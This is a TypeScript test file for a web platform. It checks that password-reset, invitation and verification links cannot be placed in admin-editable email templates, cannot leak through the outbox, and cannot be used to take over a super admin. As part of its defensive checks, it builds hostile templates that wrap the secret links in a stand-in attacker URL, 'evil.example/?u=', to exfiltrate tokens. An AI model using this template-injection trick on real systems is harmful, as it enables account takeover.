// Secret links (reset, invitations, verification, contract, booking, split links) are never template
// variables: an admin who edits a template cannot place one in a subject, repeat it or wrap it in another
// site's address, cannot read it in the outbox, and cannot take over the super admin through the reset or
// the invitation email. The templates covered are read from the registry the code uses, so a new email
// with a secret link is covered here without a change.
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { db } from '@/lib/platform/db';
import { env } from '@/lib/platform/env';
import { authenticate } from '@/lib/platform/auth/authenticate';
import { sendTemplatedEmail } from '@/lib/comms/templates';
import { SECRET_LINK_TEMPLATES, TEMPLATE_DEFAULTS, type TemplateKey } from '@/lib/comms/template-defaults';
import { REDACTED, deliverableCopy } from '@/lib/platform/mail/service';
import * as templates from '@/app/api/communications/templates/[key]/route';
import * as outbox from '@/app/api/admin/outbox/route';
import * as resetRoute from '@/app/api/auth/password-reset/route';
import * as confirmRoute from '@/app/api/auth/password-reset/confirm/route';
import * as invitations from '@/app/api/admin/invitations/route';
import * as acceptRoute from '@/app/api/auth/invitations/[token]/accept/route';
import { call, createUser, TEST_PASSWORD } from '../../helpers/api';
import { callSteppedUp } from '../../helpers/step-up';

jest.setTimeout(120_000);

const EVIL = 'https://evil.example/?u=';
const origin = () => new URL(env().APP_BASE_URL).origin;
let seq = 0;
const freshToken = () => `tok${Date.now().toString(36)}${(seq += 1)}abcdefghijklmnopqrstuvwxyz012345`;

/** What an admin who edited the template before the fix (or a row restored from a backup) left stored. */
function hostileParts(key: TemplateKey) {
  const names = TEMPLATE_DEFAULTS[key].links.map((l) => l.name);
  return {
    subject: `Open ${names.map((n) => `{{${n}}}`).join(' ')}`,
    body: names
      .map((n) => `[click]({{${n}}}) <a href="${EVIL}{{${n}}}">wrapped</a> ![x](${EVIL}{{${n}}})`)
      .join('\n\n'),
    text: names.map((n) => `Go {{${n}}} or ${EVIL}{{${n}}}`).join('\n'),
  };
}

/** Every field of the stored copy and of the admin's outbox listing, as one string. */
async function whatAnAdminCanRead(admin: { id: string }, to: string, outboxId: string) {
  const row = await db.outboxEmail.findUniqueOrThrow({ where: { id: outboxId } });
  const listed = await call(outbox.GET, { as: admin as never, url: `/api/admin/outbox?to=${encodeURIComponent(to)}` });
  expect(listed.status).toBe(200);
  return JSON.stringify({ ...row, listed: listed.json });
}

describe('every email with a secret link', () => {
  let admin: Awaited<ReturnType<typeof createUser>>;
  let boss: Awaited<ReturnType<typeof createUser>>;
  beforeAll(async () => {
    admin = await createUser('admin');
    boss = await createUser('super_admin');
  });
  afterEach(async () => {
    await db.emailTemplate.deleteMany({});
  });

  it('the registry finds the security emails', () => {
    expect(SECRET_LINK_TEMPLATES).toEqual(
      expect.arrayContaining(['password_reset', 'admin_invitation', 'artist_invitation', 'verification']),
    );
    // No default text names a secret link: the system adds it.
    for (const key of SECRET_LINK_TEMPLATES)
      for (const link of TEMPLATE_DEFAULTS[key].links)
        for (const part of ['subject', 'body', 'text'] as const)
          expect(TEMPLATE_DEFAULTS[key][part]).not.toContain(`{{${link.name}}}`);
  });

  it.each(SECRET_LINK_TEMPLATES.map((k) => [k]))(
    '%s: no one can save a template that places or wraps its link',
    async (key) => {
      const hostile = hostileParts(key);
      for (const part of ['subject', 'body', 'text'] as const) {
        const body = { brand: 'tnm', ...TEMPLATE_DEFAULTS[key], [part]: hostile[part] };
        // A plain admin may not change a security email at all.
        expect((await call(templates.PUT, { as: admin, method: 'PUT', params: { key }, body })).status).toBe(403);
        // Not even the super admin after step-up can put the link in a template: 400 with a clear message.
        const refused = await callSteppedUp(templates.PUT, boss, { method: 'PUT', params: { key }, body });
        expect(refused.status).toBe(400);
        expect(refused.json.error).toMatch(/secure link/);
        expect(refused.json.issues[0]).toMatchObject({ path: part });
      }
      expect(await db.emailTemplate.count({ where: { key } })).toBe(0);
    },
  );

  it.each(SECRET_LINK_TEMPLATES.map((k) => [k]))(
    '%s: a stored template naming the link renders it nowhere; only the system button carries it',
    async (key) => {
      await db.emailTemplate.create({ data: { brand: 'tnm', key, ...hostileParts(key) } });
      const d = TEMPLATE_DEFAULTS[key];
      const tokens = d.links.map(() => freshToken());
      const urls = d.links.map((l, i) => `${origin()}${l.sample.replace('SAMPLE-TOKEN', tokens[i])}`);
      const to = `links-${key}-${Date.now()}@test.local`;
      const id = await sendTemplatedEmail({
        to,
        brand: 'tnm',
        template: key,
        vars: { recipientName: 'Robin', ...d.sample, ...Object.fromEntries(d.links.map((l, i) => [l.name, urls[i]])) },
        secrets: tokens,
      });

      const readable = await whatAnAdminCanRead(admin, to, id);
      for (const t of tokens) expect(readable).not.toContain(t);
      expect(readable).not.toContain(`${EVIL}http`);

      const delivered = (await deliverableCopy(id))!;
      for (const [i, url] of urls.entries()) {
        // The recipient gets the link once in the system's button and once as a plain address, both on the
        // platform's origin, and never inside the template's text or another site's address.
        expect(delivered.html).toContain(`href="${url}"`);
        expect(delivered.text).toContain(`${d.links[i].label}:\n${url}`);
        expect(new URL(url).origin).toBe(origin());
      }
      for (const copy of [delivered.subject, delivered.text, delivered.html ?? '']) {
        expect(copy).not.toContain(`${EVIL}http`);
        expect(copy).not.toContain(`${EVIL}${encodeURIComponent(origin())}`);
      }
      for (const t of tokens) expect(delivered.subject).not.toContain(t);
      expect(delivered.text.startsWith('Go  or')).toBe(true);
    },
  );

  it('the migration strips the link names from stored templates and keeps the certificate verifyUrl', async () => {
    const dir = readdirSync('prisma/migrations').find((m) => m.endsWith('_email_templates_without_secret_links'))!;
    const sql = readFileSync(path.join('prisma/migrations', dir, 'migration.sql'), 'utf8');
    await db.emailTemplate.create({ data: { brand: 'sgr', key: 'password_reset', ...hostileParts('password_reset') } });
    await db.emailTemplate.create({
      data: {
        brand: 'sgr',
        key: 'certificate',
        subject: 'Yours',
        body: '[verify]({{verifyUrl}})',
        text: '{{verifyUrl}}',
      },
    });
    for (const statement of sql.split(/;\s*\n/).filter((s) => s.replace(/--.*$/gm, '').trim()))
      await db.$executeRawUnsafe(statement);
    const reset = await db.emailTemplate.findFirstOrThrow({ where: { brand: 'sgr', key: 'password_reset' } });
    expect(reset).toMatchObject({
      subject: 'Open ',
      body: `click <a href="${EVIL}">wrapped</a> ![x](${EVIL})`,
      text: `Go  or ${EVIL}`,
    });
    const cert = await db.emailTemplate.findFirstOrThrow({ where: { brand: 'sgr', key: 'certificate' } });
    expect(cert).toMatchObject({ body: '[verify]({{verifyUrl}})', text: '{{verifyUrl}}' });
  });

  it('changing a security email needs a super admin with step-up (403 / 428 / 200); other emails stay the admins', async () => {
    for (const key of SECRET_LINK_TEMPLATES) {
      const d = TEMPLATE_DEFAULTS[key];
      const body = { brand: 'sgr', subject: d.subject, body: `${d.body}\n\nEdited.`, text: d.text };
      const del = { method: 'DELETE', params: { key }, url: '/api/x?brand=sgr' };
      expect((await call(templates.PUT, { as: admin, method: 'PUT', params: { key }, body })).status).toBe(403);
      expect((await call(templates.DELETE, { as: admin, ...del })).status).toBe(403);
      expect((await call(templates.PUT, { as: boss, method: 'PUT', params: { key }, body })).status).toBe(428);
      expect((await call(templates.DELETE, { as: boss, ...del })).status).toBe(428);
      expect((await callSteppedUp(templates.PUT, boss, { method: 'PUT', params: { key }, body })).status).toBe(200);
      expect(await db.emailTemplate.count({ where: { brand: 'sgr', key } })).toBe(1);
      expect((await callSteppedUp(templates.DELETE, boss, del)).status).toBe(204);
      expect(await db.emailTemplate.count({ where: { brand: 'sgr', key } })).toBe(0);
    }
    const welcome = TEMPLATE_DEFAULTS.welcome;
    const plain = { brand: 'sgr', subject: 'Hi {{recipientName}}', body: welcome.body, text: welcome.text };
    expect(
      (await call(templates.PUT, { as: admin, method: 'PUT', params: { key: 'welcome' }, body: plain })).status,
    ).toBe(200);
  });
});

describe('the super admin cannot be taken over through an email template', () => {
  afterEach(async () => {
    await db.emailTemplate.deleteMany({});
  });

  it('reset: the admin cannot put the link in the subject, nor read it from a stored template; the real link works', async () => {
    const admin = await createUser('admin');
    const boss = await createUser('super_admin');
    const attack = {
      brand: 'tnm',
      subject: 'Reset {{resetUrl}}',
      body: '<a href="https://evil.example/?u={{resetUrl}}">x</a>',
      text: '{{resetUrl}}',
    };
    const saved = await call(templates.PUT, {
      as: admin,
      method: 'PUT',
      params: { key: 'password_reset' },
      body: attack,
    });
    expect(saved.status).toBe(403);
    // Even a template stored before the fix gives nothing away.
    await db.emailTemplate.create({ data: { key: 'password_reset', ...attack } });

    expect((await call(resetRoute.POST, { body: { email: boss.email } })).status).toBe(202);
    const listed = await call(outbox.GET, { as: admin, url: `/api/admin/outbox?to=${encodeURIComponent(boss.email)}` });
    const mail = listed.json.items[0];
    expect(mail.kind).toBe('password_reset');
    expect(mail.subject).toBe('Reset ');
    expect(JSON.stringify(listed.json)).not.toMatch(/token=(?!\[redacted\])[\w-]{8,}/);
    expect(JSON.stringify(listed.json)).not.toContain('evil.example/?u=http');
    // Whatever the admin can see fails as a token; the super admin's password is unchanged.
    for (const guess of [REDACTED, mail.subject, mail.id])
      expect(
        (await call(confirmRoute.POST, { body: { token: guess, password: 'admin took over now' } })).status,
      ).toBeGreaterThanOrEqual(400);
    await expect(authenticate({ email: boss.email, password: TEST_PASSWORD, ip: '192.0.2.7' })).resolves.toMatchObject({
      id: boss.id,
    });

    // The super admin's own copy carries the link on the platform's origin, and it works.
    const delivered = (await deliverableCopy(mail.id))!;
    const link = delivered.text.match(/(https?:\/\/\S+\/reset-password\?token=[\w-]+)/)![1];
    expect(new URL(link).origin).toBe(origin());
    expect(delivered.html).toContain(`href="${link}"`);
    const token = new URL(link).searchParams.get('token')!;
    expect(
      (await call(confirmRoute.POST, { body: { token, password: 'the owner chose this 1' } })).status,
    ).toBeLessThan(300);
  });

  it('invitation: the admin cannot obtain the link of a super admin invitation to create an account', async () => {
    const admin = await createUser('admin');
    const boss = await createUser('super_admin');
    const attack = {
      brand: 'tnm',
      subject: 'Join {{acceptUrl}}',
      body: '[go]({{acceptUrl}})',
      text: 'https://evil.example/?u={{acceptUrl}}',
    };
    expect(
      (await call(templates.PUT, { as: admin, method: 'PUT', params: { key: 'admin_invitation' }, body: attack }))
        .status,
    ).toBe(403);
    await db.emailTemplate.create({ data: { key: 'admin_invitation', ...attack } });

    const email = `new-boss-${Date.now()}@test.local`;
    const invited = await call(invitations.POST, { as: boss, body: { email, name: 'New Boss', role: 'super_admin' } });
    expect(invited.status).toBe(201);
    const listed = await call(outbox.GET, { as: admin, url: `/api/admin/outbox?to=${encodeURIComponent(email)}` });
    const mail = listed.json.items[0];
    expect(mail.subject).toBe('Join ');
    expect(JSON.stringify(listed.json)).not.toMatch(/admin-invitation\/(?!\[redacted\])[\w-]{8,}/);
    for (const guess of [REDACTED, mail.id, 'Join']) {
      const tried = await call(acceptRoute.POST, {
        params: { token: guess },
        body: { name: 'Mallory', password: 'mallory owns it 1' },
      });
      expect(tried.status).toBeGreaterThanOrEqual(400);
    }
    expect(await db.user.count({ where: { email } })).toBe(0);

    // The invited person's copy works and points at the platform.
    const delivered = (await deliverableCopy(mail.id))!;
    const link = delivered.text.match(/(https?:\/\/\S+\/admin-invitation\/([\w-]+))/)!;
    expect(new URL(link[1]).origin).toBe(origin());
    const accepted = await call(acceptRoute.POST, {
      params: { token: link[2] },
      body: { name: 'New Boss', password: 'a real boss password 1' },
    });
    expect(accepted.status).toBeLessThan(300);
    expect(await db.user.findUnique({ where: { email } })).toMatchObject({ role: 'super_admin' });
  });
});
